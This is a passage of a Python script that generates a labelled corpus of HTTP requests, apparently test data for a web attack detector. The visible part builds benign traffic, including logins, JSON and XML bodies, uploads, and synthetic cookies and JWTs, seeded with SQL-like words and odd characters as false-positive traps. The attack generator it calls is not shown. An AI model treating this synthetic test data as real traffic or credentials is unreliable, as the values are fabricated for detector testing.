    "Hi,\nI ordered on 3/4 but nothing arrived.\nOrder #12345\nThanks,\nSeán O'Brien", "Use <code>git log --oneline</code> to see history",
    "Works with Windows & Mac; tested on Ubuntu 22.04 too.", "Price: $25 (was $40) -- 37% off!", "5 stars!!! <3 <3",
    "<ul><li>fast</li><li>cheap</li><li>good</li></ul>", "Note: the \"premium\" plan isn't worth it.", "Contact: support@example.com or +44 20 7946 0000",
    "I tried `npm install` and it failed with error code 1", "<blockquote>Best purchase ever</blockquote>", "He said \"don't\" and I said 'why not?'",
    "Check https://www.example.org/docs?page=2&lang=en for details", "Step 1: open the box. Step 2: plug it in. Step 3: enjoy",
    "<h2>Summary</h2><p>Solid build &amp; great battery</p>", "My username is o'malley_88 -- please reset", "Re: order by Friday?",
    "Table: 2 rows, 3 columns; values = 1, 2, 3", "The script on the page loads slowly", "Please delete from my wishlist: the red one",
]
WORDS = "alpha beta gamma delta report invoice photo summer winter project draft final notes budget plan".split()


def jwt():
    def b(d):
        return base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")
    sig = base64.urlsafe_b64encode(bytes(R.getrandbits(8) for _ in range(32))).decode().rstrip("=")
    return f"{b({'alg': 'HS256', 'typ': 'JWT'})}.{b({'sub': str(R.randint(1, 99999)), 'name': R.choice(FIRST), 'iat': 1716239022})}.{sig}"


def rand_b64(n):
    return base64.b64encode(bytes(R.getrandbits(8) for _ in range(n))).decode()


def cookie():
    parts = [f"_ga=GA1.2.{R.randint(10**8, 10**9)}.{R.randint(10**8, 10**9)}", f"sessionid={R.getrandbits(128):032x}",
             f"csrftoken={rand_b64(24).replace('/', '_').replace('+', '-')}", "theme=dark", f"cart={q(json.dumps({'items': [R.randint(1, 500)]}))}",
             "consent=" + q("{stamp:'-1',necessary:true,preferences:true}"), f"lang={R.choice(['en', 'de', 'fr'])}",
             f"last_search={q(R.choice(SEARCH))}"]
    return "; ".join(R.sample(parts, R.randint(2, 6)))


def benign_one(i):
    kind = R.choice(["search", "browse", "json", "form_login", "form_comment", "upload", "xml", "api_get", "static", "profile", "jwt_api", "redirect"])
    h = base_headers()
    if R.random() < 0.6:
        h.append(["Cookie", cookie()])
    if R.random() < 0.5:
        h.append(["Referer", f"https://{R.choice(HOSTS)}/" + R.choice(["", "products?page=2", "search?q=" + q(R.choice(SEARCH)), "account/orders"])])
    if R.random() < 0.3:
        h.append(["X-Forwarded-For", f"{R.randint(1, 223)}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}, 10.0.{R.randint(0, 9)}.{R.randint(1, 254)}"])
    if R.random() < 0.2:
        h.append(["X-Request-ID", f"{R.getrandbits(128):032x}"])
    method, target, body = "GET", "/", None
    if kind == "search":
        s = R.choice(SEARCH)
        enc = q(s) if R.random() < 0.5 else q(s).replace("%20", "+")
        target = f"/search?q={enc}&page={R.randint(1, 9)}" + R.choice(["", "&sort=price_asc", "&filter[brand]=acme&filter[color]=red", "&in_stock=true"])
    elif kind == "browse":
        target = R.choice(["/", "/products/shoes/running", "/category/home-garden?sort=-created_at", "/blog/2024/06/how-to-choose-a-mattress",
                           "/p/12345-o-brien-tweed-jacket", "/account/orders/98765", "/help/faq#returns", "/cart", "/checkout/step-2",
                           "/news/union-station-renovation", "/events/select-comfort-sale", "/docs/v2/api-reference/users#delete"])
    elif kind == "static":
        target = R.choice(["/static/js/app.3f9a2c.js", "/static/css/main.css?v=20240601", "/favicon.ico", "/images/logo@2x.png",
                           "/fonts/inter-var.woff2", "/robots.txt", "/sitemap.xml", "/assets/vendor/jquery-3.7.1.min.js"])
    elif kind == "api_get":
        target = R.choice([f"/api/v1/items?ids={','.join(str(R.randint(1, 999)) for _ in range(5))}", "/api/v1/users?fields=id,name,email&limit=50",
                           f"/api/v2/search?query={q(R.choice(SEARCH))}&lang=en", "/api/v1/orders?status=shipped&from=2024-01-01&to=2024-06-30",
                           f"/graphql?query={q('query { user(id: 5) { name orders(first: 10) { id total } } }')}", "/api/v1/geo?lat=51.5074&lng=-0.1278",
                           f"/api/v1/callback?state={rand_b64(12)}&code={R.getrandbits(64):x}", "/api/v1/items?sort=name&order=desc&page[size]=20&page[number]=3"])
        h.append(["Accept", "application/json"])
    elif kind == "redirect":
        target = R.choice(["/login?next=%2Faccount%2Fsettings", "/logout?return_to=https%3A%2F%2Fshop.example.com%2F", "/sso?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb",
                           "/go?url=https%3A%2F%2Fwww.example.org%2Farticle%3Fid%3D7", "/auth/callback?code=4%2F0AY0e&scope=email+profile"])
    elif kind == "jwt_api":
        h.append(["Authorization", "Bearer " + jwt()])
        target = f"/api/v1/me?include=orders,addresses"
    elif kind in ("json", "profile"):
        method = R.choice(["POST", "PUT", "PATCH"])
        doc = {"name": f"{R.choice(FIRST)} {R.choice(LAST)}", "email": "user%d@example.com" % i,
               "address": {"street": R.choice(["12 O'Connell St.", "1 Union Square", "221B Baker Street", "5 Rue de l'Église"]), "city": "Dublin", "zip": "D01 F5P2"},
               "bio": R.choice(COMMENTS + SEARCH), "tags": R.sample(WORDS, 3), "prefs": {"newsletter": R.random() < 0.5, "theme": "dark"},
               "avatar": ("data:image/png;base64," + rand_b64(48)) if R.random() < 0.25 else f"https://cdn.example.com/u/{i}.png", "token": jwt(), "website": "https://www.example.org/~" + R.choice(WORDS),
               "notes": R.choice(["", "Call after 5pm; ask for D'Arcy", "Leave at the door & ring", "select any option"])}
        if R.random() < 0.3:
            doc = {"query": "query Get($id: ID!) { user(id: $id) { name } }", "variables": {"id": str(R.randint(1, 999))}}
        if R.random() < 0.2:
            doc = {"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object", "properties": {"name": {"type": "string"}}}
        body = json.dumps(doc, ensure_ascii=R.random() < 0.5)
        h.append(["Content-Type", "application/json; charset=utf-8"])
        target = R.choice(["/api/v1/profile", "/api/v2/users/1042", "/graphql", "/api/v1/schemas"])
    elif kind == "form_login":
        method = "POST"
        pw = R.choice(["P@ssw0rd!", "correct horse battery staple", "Tr0ub4dor&3", "S3cr3t'Pa$$", "hunter2", "p4ss\"w0rd", "<mypass>", "a;b|c`d"])
        body = f"username={q(R.choice(FIRST).lower() + '.' + R.choice(LAST).lower())}&password={q(pw)}&remember=on&csrf={rand_b64(18).replace('+', '-').replace('/', '_')}"
        h.append(["Content-Type", "application/x-www-form-urlencoded"])
        target = "/login"
    elif kind == "form_comment":
        method = "POST"
        body = f"author={q(R.choice(FIRST) + ' ' + R.choice(LAST))}&email=a%40example.com&rating={R.randint(1, 5)}&comment={q(R.choice(COMMENTS))}"
        if R.random() < 0.5:
            body = body.replace("%20", "+")
        h.append(["Content-Type", "application/x-www-form-urlencoded"])
        target = "/products/123/reviews"
    elif kind == "upload":
        method = "POST"
        b = "----WebKitFormBoundary" + "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789") for _ in range(16))
        fname = R.choice(["My Résumé (2).pdf", "photo_2024-06-01.jpg", "O'Neil report.docx", "budget & forecast.xlsx", "scan 001.png", "notes.txt", "data.csv"])
        content = R.choice([bytes(R.getrandbits(8) for _ in range(300)), b"name,email\nSean O'Brien,s@example.com\nAl & Co,al@example.com\n",
                            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n", b"Meeting notes: select venue; union reps attend; drop old agenda.\n"])
        parts = (f"--{b}\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\n{R.choice(COMMENTS)}\r\n"
                 f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fname}\"\r\nContent-Type: application/octet-stream\r\n\r\n").encode()
        raw = parts + content + f"\r\n--{b}--\r\n".encode()
        h.append(["Content-Type", f"multipart/form-data; boundary={b}"])
        h.append(["Content-Length", str(len(raw))])
        return {"method": method, "target": "/api/upload", "headers": h, "body_b64": base64.b64encode(raw).decode()}
    elif kind == "xml":
        method = "POST"
        body = R.choice([
            "<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice xmlns=\"https://www.example.org/stock\"><Item>O'Brien &amp; Sons</Item></GetPrice></soap:Body></soap:Envelope>",
            "<?xml version=\"1.0\"?><order><id>5</id><customer>Zoë D'Angelo</customer><note>Leave at door; ring twice &amp; wait</note></order>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>News</title><item><title>Union votes to select new leader</title></item></channel></rss>",
            "<?xml version=\"1.0\"?><methodCall><methodName>weblogUpdates.ping</methodName><params><param><value>My Blog</value></param></params></methodCall>",
        ])
        h.append(["Content-Type", R.choice(["application/xml", "text/xml; charset=utf-8"])])
        target = "/api/soap"
    rec = {"method": method, "target": target, "headers": h}
    if body is not None:
        rec["body"] = body
        h.append(["Content-Length", str(len(body.encode()))])
    return rec


def main():
    out_path = sys.argv[1] if len(sys.argv) > 1 else "testdata/detect/corpus.jsonl"
    recs = []
    for n, r in enumerate(attacks()):
        r["id"] = f"a{n:05d}-{r['label']}-{r['location']}-{r['encoding']}"
        recs.append(r)
    for i in range(3000):
        r = benign_one(i)
        r.update(id=f"b{i:05d}", label="benign", location="-", encoding="-")
        recs.append(r)
    with open(out_path, "w") as f:
        for r in recs:
            f.write(json.dumps(r, ensure_ascii=True, sort_keys=True) + "\n")
    by = {}
    for r in recs:
        by[r["label"]] = by.get(r["label"], 0) + 1
    print(out_path, len(recs), by, file=sys.stderr)


if __name__ == "__main__":
    main()
